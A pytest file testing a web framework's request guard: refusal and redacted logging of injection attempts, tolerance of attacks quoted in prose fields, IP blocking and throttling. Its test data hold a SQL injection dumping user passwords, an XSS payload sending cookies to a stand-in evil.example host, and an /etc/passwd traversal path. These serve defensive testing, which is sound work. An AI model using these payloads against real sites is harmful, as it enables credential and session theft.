"""Live traffic under watch: what is refused, what is only noted, and who is kept out."""

from __future__ import annotations

import asyncio
from dataclasses import replace
from ipaddress import ip_network
from typing import Annotated, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import BaseModel, Field, SecretStr
from tests.runtime.http.conftest import EXAMPLE, Site

from steersman.contract.fakes import FakeClock
from steersman.contract.freetext import FREE_TEXT
from steersman.contract.service import Route
from steersman.engine.threats import inspect_pieces
from steersman.model.errors import Forbidden, Throttled
from steersman.runtime.http.guard import REFUSED, Guard, Measure, Measures
from steersman.runtime.http.telling import Silent

ATTACK = "1' UNION SELECT name, password FROM users --"
SCRIPT = "<script>fetch('//evil.example/'+document.cookie)</script>"


class Prose(BaseModel):
    """A prompt, the label on it, and a secret."""

    prompt: Annotated[str, Field(json_schema_extra=FREE_TEXT)] = ""
    label: str = ""
    key: SecretStr | None = None


class Document(BaseModel):
    """Prose further inside."""

    parts: list[Prose] = []


def write(body: Prose) -> dict[str, str]:
    return {"got": body.prompt}


def file(body: Document) -> dict[str, int]:
    return {"parts": len(body.parts)}


def find(words: Annotated[str, Field(json_schema_extra=FREE_TEXT)] = "", order: str = "") -> dict[str, str]:
    return {"words": words, "order": order}


def _route(method: Any, path: str, handler: Any) -> Route:
    return Route(method=method, path=path, handler=handler, permission="example.thing.read", summary="An example.")


TALK = replace(
    EXAMPLE,
    routes=(
        *EXAMPLE.routes,
        _route("POST", "/api/example/prose", write),
        _route("POST", "/api/example/documents", file),
        _route("GET", "/api/example/find", find),
    ),
)


class Told:
    """Remembers what was noted."""

    def __init__(self) -> None:
        self.notes: list[tuple[str, str, dict[str, Any]]] = []

    def note(self, type: str, subject: str, payload: Any) -> None:
        self.notes.append((type, subject, dict(payload)))


@pytest.fixture
def told() -> Told:
    return Told()


@pytest.fixture
def site(tmp_path: Any, told: Told) -> Site:
    return Site(tmp_path, (TALK,), provided={Guard: Guard(FakeClock(), told, inspect_pieces)}).start()


@pytest.mark.requirement("ASVS-2.2.1")
@pytest.mark.requirement("ASVS-16.3.3")
def test_an_attack_in_a_structured_field_is_refused_and_noted_without_its_words(site: Site, told: Told) -> None:
    for answer in (
        site.get("/api/example/find", params={"order": ATTACK}),
        site.ask("POST", "/api/example/prose", json={"label": SCRIPT}),
        site.ask("POST", "/login", data={"to": SCRIPT}),
        site.get("/api/example/find?order=../../../../etc/passwd"),
    ):
        assert (answer.status_code, answer.json()["detail"]) == (403, REFUSED)
    assert {note[2]["kind"] for note in told.notes} == {"sql_injection", "xss", "path_traversal"}
    assert "UNION" not in str(told.notes)
    assert "evil.example" not in str(told.notes)


def test_prose_may_speak_of_attacks(site: Site, told: Told) -> None:
    """A prompt, a document and a search are what they are; a password may look like anything."""
    assert (
        site.ask("POST", "/api/example/prose", json={"prompt": f"What does {ATTACK} do? And {SCRIPT}?"}).status_code
        == 200
    )
    assert site.ask("POST", "/api/example/documents", json={"parts": [{"prompt": ATTACK}]}).status_code == 200
    assert site.get("/api/example/find", params={"words": ATTACK}).status_code == 200
    assert site.ask("POST", "/api/example/prose", json={"key": ATTACK}).status_code == 200
    assert told.notes == []


def test_a_document_does_not_hide_an_attack_beside_it(site: Site) -> None:
    body = {"parts": [{"prompt": "How are you?", "label": ATTACK}]}
    assert site.ask("POST", "/api/example/documents", json=body).status_code == 403


def test_what_is_taken_in_is_not_looked_at(site: Site) -> None:
    assert site.ask("POST", "/hot", content=ATTACK.encode()).content == ATTACK.encode()


def test_nobody_without_a_key_is_told_that_it_was_an_attack(site: Site) -> None:
    """Where a key is asked for, its absence comes first, and costs less."""
    answer = site.ask("POST", "/api/example/prose", headers={}, json={"label": ATTACK})
    assert answer.status_code == 401


@pytest.mark.parametrize(("mode", "status", "noted"), [("observe", 200, 1), ("ignore", 200, 0)])
def test_the_settings_may_ask_for_less(tmp_path: Any, told: Told, mode: Any, status: int, noted: int) -> None:
    site = Site(tmp_path, (TALK,), provided={Guard: Guard(FakeClock(), told, inspect_pieces, mode)}).start()
    assert site.get("/api/example/find", params={"order": ATTACK}).status_code == status
    assert len(told.notes) == noted


def test_a_body_that_was_looked_at_arrives_whole(site: Site) -> None:
    long = "all is well here, " * 20_000
    assert site.ask("POST", "/api/example/prose", json={"prompt": long}).json() == {"got": long}


# ---------------------------------------------------------------------------------------------- who is kept out


def kept_out(guard: Guard, address: str) -> bool:
    try:
        guard.admit(address)
    except Forbidden:
        return True
    return False


def barred(*networks: str, until_ms: int = 10**15) -> Measures:
    return Measures.of([Measure(ip_network(one), refuse=True, until_ms=until_ms) for one in networks])


def test_a_measure_holds_for_its_network_until_it_ends() -> None:
    clock = FakeClock()
    guard = Guard(clock, Silent(), None)
    guard.measures = barred("203.0.113.0/24", "2001:db8::/32", until_ms=clock.wall_ns() // 1_000_000 + 60_000)
    assert kept_out(guard, "203.0.113.9")
    assert kept_out(guard, "::ffff:203.0.113.9")
    assert kept_out(guard, "2001:db8:1::1")
    assert not kept_out(guard, "203.0.114.9")
    assert not kept_out(guard, "not an address")
    asyncio.run(clock.advance(61))
    assert not kept_out(guard, "203.0.113.9")


@pytest.mark.parametrize("address", ["127.0.0.1", "127.8.9.1", "::1", "::ffff:127.0.0.1"])
def test_loopback_is_never_kept_out(address: str) -> None:
    """Whoever sits at the machine has to be able to lift what was done by mistake."""
    guard = Guard(FakeClock(), Silent(), None)
    guard.measures = barred("0.0.0.0/0", "::/0")
    assert not kept_out(guard, address)


def test_an_address_that_is_slowed_down_gets_one_request_at_a_time() -> None:
    clock = FakeClock()
    guard = Guard(clock, Silent(), None)
    guard.measures = Measures.of([Measure(ip_network("203.0.113.9"), refuse=False, until_ms=10**15, every_seconds=2)])
    guard.admit("203.0.113.9")
    with pytest.raises(Throttled) as raised:
        guard.admit("203.0.113.9")
    assert raised.value.retry_after == pytest.approx(2)
    asyncio.run(clock.advance(2))
    guard.admit("203.0.113.9")


@given(
    st.lists(st.ip_addresses(v=4).flatmap(lambda ip: st.integers(0, 32).map(lambda n: f"{ip}/{n}")), max_size=8),
    st.ip_addresses(v=4),
)
def test_the_table_says_what_the_networks_say(networks: list[str], address: Any) -> None:
    """Against the standard library, one network after the other."""
    parsed = [ip_network(one, strict=False) for one in networks]
    measures = Measures.of([Measure(one, refuse=True, until_ms=10**15) for one in parsed])
    wanted = not address.is_loopback and any(address in one for one in parsed)
    assert (measures.about(str(address), 0) is not None) == wanted
